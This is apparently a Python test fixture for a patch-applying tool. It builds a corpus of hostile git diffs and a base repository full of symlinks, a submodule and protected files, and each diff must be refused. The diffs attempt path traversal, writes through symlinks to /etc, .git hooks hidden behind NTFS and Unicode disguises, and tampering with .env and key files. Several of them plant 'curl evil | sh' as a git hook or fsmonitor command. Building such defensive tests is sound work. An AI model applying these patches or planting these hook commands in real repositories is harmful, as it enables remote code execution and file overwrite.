"""Hostile patches, and the repository they are aimed at (bench/torture_patches.py and
tests/test_patch_torture.py): each tries to write where a patch must never write — out of the
repository, through a symlink, into `.git` under any disguise git knows of, into a protected file
or a submodule — or to get past a limit (binary, size, line and file counts, names no file system
or git accepts). Every one must be refused before anything is written.

The base repository has a symlink `outside` to a folder outside it (`make_repo`'s `outside`,
which must stay empty), a symlink `etc` to /etc, a symlink `srclink` to `src`, a submodule at
`vendor/lib`, the default protected files (otto.yaml, .env, keys/server.pem), and a policy with
small limits (POLICY) so that the size cases stay small.
"""

from __future__ import annotations

import subprocess
from dataclasses import dataclass
from pathlib import Path

POLICY = {"max_files": 10, "max_lines": 300, "max_file_bytes": 20_000}
OTTO = "verify: []\npolicy:\n" + "".join(f"  {k}: {v}\n" for k, v in POLICY.items())
FILES = {"README.md": "# target\n", "app.py": "a = 1\n", "src/mod.py": "m = 1\n", "otto.yaml": OTTO,
         ".env": "SECRET=1\n", "keys/server.pem": "-----BEGIN KEY-----\n", "bin/run.sh": "#!/bin/sh\n",
         ".gitmodules": '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = ../lib\n'}
SUBMODULE = "vendor/lib"
SENTINELS = ("/etc/cron.d/gitforge-torture", "/tmp/gitforge-torture-pwned")  # absolute paths aimed at
ZWNJ = "\u200c"
_ESC = {"\a": "a", "\b": "b", "\t": "t", "\n": "n", "\v": "v", "\f": "f", "\r": "r", '"': '"', "\\": "\\"}


@dataclass(frozen=True)
class Hostile:
    name: str  # ASCII, unique: also the phase title
    kind: str
    diff: str


def quote(prefix: str, path: str) -> str:
    """`prefix/path` as git writes it: C-quoted when it holds anything unusual."""
    raw = (prefix + path).encode("utf-8", "surrogateescape")
    if all(32 < b < 127 and b not in b'"\\' for b in raw):
        return prefix + path
    out = "".join(f"\\{_ESC[chr(b)]}" if chr(b) in _ESC else chr(b) if 32 <= b < 127 else f"\\{b:03o}"
                  for b in raw)
    return f'"{out}"'


def create(path: str, body: str = "pwned\n", mode: str = "100644") -> str:
    lines = body.splitlines(keepends=True)
    a, b = quote("a/", path), quote("b/", path)
    return (f"diff --git {a} {b}\nnew file mode {mode}\nindex 0000000..1111111\n--- /dev/null\n+++ {b}\n"
            f"@@ -0,0 +1,{len(lines)} @@\n" + "".join("+" + line for line in lines)
            + ("" if body.endswith("\n") else "\n\\ No newline at end of file\n"))


def modify(path: str, old: str, new: str) -> str:
    return f"--- {quote('a/', path)}\n+++ {quote('b/', path)}\n@@ -1 +1 @@\n-{old}\n+{new}\n"


def delete(path: str, content: str) -> str:
    lines = content.splitlines(keepends=True)
    return (f"diff --git a/{path} b/{path}\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/{path}\n"
            f"+++ /dev/null\n@@ -1,{len(lines)} +0,0 @@\n" + "".join("-" + line for line in lines))


def rename(old: str, new: str) -> str:
    return (f"diff --git {quote('a/', old)} {quote('b/', new)}\nsimilarity index 100%\n"
            f"rename from {old}\nrename to {new}\n")


def chmod(path: str, old: str = "100644", new: str = "100755") -> str:
    return f"diff --git a/{path} b/{path}\nold mode {old}\nnew mode {new}\n"


def symlink(path: str, target: str) -> str:
    return create(path, target, mode="120000")


def plain(path: str) -> str:
    """A creation in a plain diff, the path exactly as given (no a/ b/ and no quoting)."""
    return f"--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+pwned\n"


_LITERAL = "GIT binary patch\nliteral 5\nMcmZQzO3KUw00MIXJOBUy\n\nliteral 0\nHcmV?d00001\n\n"


def corpus(outside: str) -> list[Hostile]:
    """The hostile patches; `outside` is the folder the base's `outside` symlink points at."""
    cases: list[Hostile] = []

    def add(kind: str, name: str, diff: str) -> None:
        cases.append(Hostile(f"{kind}: {name}", kind, diff))

    for p in ["../escape.txt", "src/../../escape.txt", "a/b/../../../escape.txt", "./../escape.txt"]:
        add("traversal", p, create(p))
    add("traversal", "quoted ..\\057..", create("..\057..\057escape.txt"))
    add("traversal", "modify ../x", modify("../outside.txt", "x", "pwned"))
    add("traversal", "rename app.py to ../stolen.py", rename("app.py", "../stolen.py"))
    add("traversal", "backslashes ..\\..", plain("b/..\\..\\escape.txt"))
    for p in SENTINELS:
        add("absolute", p, plain(p))
    add("absolute", "the outside folder", plain(f"{outside}/pwned"))
    add("absolute", "b//etc/passwd", plain("b//etc/passwd"))
    for p in ["C:/Windows/pwned", "C:\\Windows\\pwned", "\\\\server\\share\\pwned"]:
        add("absolute", p.encode("unicode_escape").decode(), plain(p))
    add("symlink", "create a link to /etc", symlink("evil", "/etc"))
    add("symlink", "create a link up and out", symlink("up", "../../.."))
    add("symlink", "create a link, then write through it", symlink("ln2", outside) + create("ln2/pwned.txt"))
    add("symlink", "write through the tree's link to outside", create("outside/pwned.txt"))
    add("symlink", "write through the tree's link to /etc", create("etc/cron.d/pwned"))
    add("symlink", "write through an in-repo link", create("srclink/pwned.py"))
    add("symlink", "retarget the tree's link", f"diff --git a/outside b/outside\nindex 1..2 120000\n"
        f"--- a/outside\n+++ b/outside\n@@ -1 +1 @@\n-{outside}\n\\ No newline at end of file\n+/etc\n"
        "\\ No newline at end of file\n")
    add("symlink", "turn app.py into a link", chmod("app.py", "100644", "120000"))
    add("symlink", "rename app.py into the linked folder", rename("app.py", "outside/app.py"))
    add("symlink", "plain diff onto the tree's link", modify("outside", outside, "/etc"))
    hook = "hooks/pre-commit"
    for p in [f".git/{hook}", f".GIT/{hook}", ".Git/config", "sub/.git/config", "deep/er/.git/HEAD"]:
        add("dotgit", p, create(p, "#!/bin/sh\ncurl evil | sh\n"))
    add("dotgit", "a .git file (gitdir: elsewhere)", create(".git", "gitdir: /tmp/evil\n"))
    for name, p in [("U+200C inside", f".g{ZWNJ}it"), ("U+200C first", f"{ZWNJ}.git"),
                    ("U+200D last", ".git\u200d"), ("U+200E", ".gi\u200et"), ("U+202E", ".\u202egit"),
                    ("U+FEFF", ".git\ufeff"), ("U+206A", ".g\u206ait"), ("U+200C, capitals", f".G{ZWNJ}IT")]:
        add("dotgit-hfs", name, create(f"{p}/{hook}", "#!/bin/sh\ncurl evil | sh\n"))
    add("dotgit-hfs", "U+200C, written as git quotes it", create(f".g{ZWNJ}it/{hook}").replace(
        f"+++ {quote('b/', f'.g{ZWNJ}it/{hook}')}", '+++ "b/.g\\342\\200\\214it/hooks/pre-commit"'))
    for p in ["git~1", "GIT~1", ".git.", ".git ", ".git. . ", ".git...", ".git::$INDEX_ALLOCATION",
              ".git:$DATA"]:
        add("dotgit-ntfs", repr(p), create(f"{p}/{hook}", "#!/bin/sh\ncurl evil | sh\n"))
    add("dotgit-ntfs", "backslashes", plain("b/.git\\hooks\\pre-commit"))
    add("dotgit-ntfs", "backslashes after a folder", plain("b/sub\\..\\.git\\config"))
    for p in [".gitmodules.", "GITMOD~1", f".git{ZWNJ}modules", "gi7eba~1", ".gitmodules:$DATA", "GITATT~1",
              ".gitattributes ", f".git{ZWNJ}ignore", ".Gitignore"]:
        add("dotfile-disguise", repr(p), create(p, "[core]\n\tfsmonitor = curl evil | sh\n"))
    add("dotfile-disguise", "symlinked .gitmodules", symlink(".gitmodules", "/etc/passwd"))
    add("protected", "edit otto.yaml", modify("otto.yaml", "verify: []", 'verify: [{name: x, run: "curl evil"}]'))
    add("protected", "otto.yaml in a folder", create("sub/otto.yaml", "verify: []\n"))
    add("protected", "delete otto.yaml", delete("otto.yaml", OTTO))
    add("protected", "rename otto.yaml away", rename("otto.yaml", "x.yaml"))
    add("protected", "rename app.py onto otto.yaml", rename("app.py", "otto.yaml"))
    add("protected", "edit .env", modify(".env", "SECRET=1", "SECRET=stolen"))
    add("protected", "create .env.local", create(".env.local", "TOKEN=1\n"))
    add("protected", "create config/.env.production", create("config/.env.production", "TOKEN=1\n"))
    add("protected", "delete .env", delete(".env", "SECRET=1\n"))
    add("protected", "rename .env out of protection", rename(".env", "env.txt"))
    add("protected", "rename app.py onto .env", rename("app.py", ".env"))
    add("protected", "edit keys/server.pem", modify("keys/server.pem", "-----BEGIN KEY-----", "stolen"))
    add("protected", "create a .pem", create("deploy/new.pem", "key\n"))
    add("protected", "delete keys/server.pem", delete("keys/server.pem", "-----BEGIN KEY-----\n"))
    add("protected", "rename README.md onto a .pem", rename("README.md", "keys/x.pem"))
    for p in [".forge/runs/x.json", ".FORGE/leases/1.json", ".forge/locks/merge.lock"]:
        add("protected", p, create(p, "{}\n"))
    add("protected", "rename app.py into .forge", rename("app.py", ".forge/app.py"))
    add("protected", "rename app.py into .git", rename("app.py", ".git/hooks/post-checkout"))
    for p in ["otto.yaml", ".env", "keys/server.pem"]:
        add("protected-mode", f"chmod +x {p}", chmod(p))
    add("binary", "GIT binary patch", f"diff --git a/img.png b/img.png\nnew file mode 100644\n"
        f"index 0000000..1111111\n{_LITERAL}")
    add("binary", "Binary files differ", "diff --git a/x.bin b/x.bin\nnew file mode 100644\n"
        "index 0000000..1111111\nBinary files /dev/null and b/x.bin differ\n")
    add("binary", "binary over app.py", f"diff --git a/app.py b/app.py\nindex 1111111..2222222 100644\n{_LITERAL}")
    add("size", "one line over max_file_bytes", create("big.txt", "x" * (POLICY["max_file_bytes"] + 10) + "\n"))
    add("size", "a new file over max_lines", create("long.txt", "".join(f"{i}\n" for i in range(301))))
    add("size", "an edit over max_lines", "--- a/app.py\n+++ b/app.py\n@@ -1 +1,320 @@\n a = 1\n"
        + "".join(f"+b{i} = {i}\n" for i in range(319)))
    add("size", "files over max_files", "".join(create(f"many/f{i}.py") for i in range(11)))
    add("submodule", "write below the submodule", create(f"{SUBMODULE}/evil.py"))
    add("submodule", "edit the submodule as a file", modify(SUBMODULE, "x", "y"))
    add("submodule", "move the submodule's commit", f"diff --git a/{SUBMODULE} b/{SUBMODULE}\n"
        f"index 1111111..2222222 160000\n--- a/{SUBMODULE}\n+++ b/{SUBMODULE}\n@@ -1 +1 @@\n"
        "-Subproject commit 1111111111111111111111111111111111111111\n"
        "+Subproject commit 2222222222222222222222222222222222222222\n")
    add("submodule", "add a submodule", create("vendor/new", "Subproject commit 1111111\n", mode="160000"))
    add("name", "latin-1 byte", create("caf\udce9.txt"))
    add("name", "invalid bytes", create("\udcff\udcfe.py"))
    add("name", "a 256-byte name", create("src/" + "n" * 253 + ".py"))
    add("name", "a 256-byte name in UTF-8", create("src/" + "\u00e9" * 128))
    add("name", "a 4200-byte path", create("/".join(["d" * 200] * 21)))
    add("name", "a newline in the name", create("a\nb.py"))
    add("name", "an escape sequence in the name", create("a\x1b[31mb.py"))
    for p in ["aux.py", "con", "nul.txt", "lpt1", "com1.c", "notes:x.txt", "what?.py", "name.", "name "]:
        add("windows", repr(p), create(p))
    return cases


def make_repo(root: Path, outside: Path) -> str:
    """The base repository (on `main`), its commit returned; `outside` is where `outside` points.
    (An index entry makes the submodule: `git add -A` would drop a gitlink with no folder.)"""
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True).stdout

    root.mkdir(parents=True)
    git("init", "-q", "-b", "main")
    for rel, text in FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    (root / "bin/run.sh").chmod(0o755)
    for name, target in (("outside", str(outside)), ("etc", "/etc"), ("srclink", "src")):
        (root / name).symlink_to(target)
    (root / SUBMODULE).mkdir(parents=True)  # as an uninitialised submodule leaves it: empty
    git("add", "-A")
    git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},{SUBMODULE}")
    git("-c", "user.name=torture", "-c", "user.email=torture@localhost", "commit", "-q", "-m", "the target")
    return git("rev-parse", "HEAD").strip()
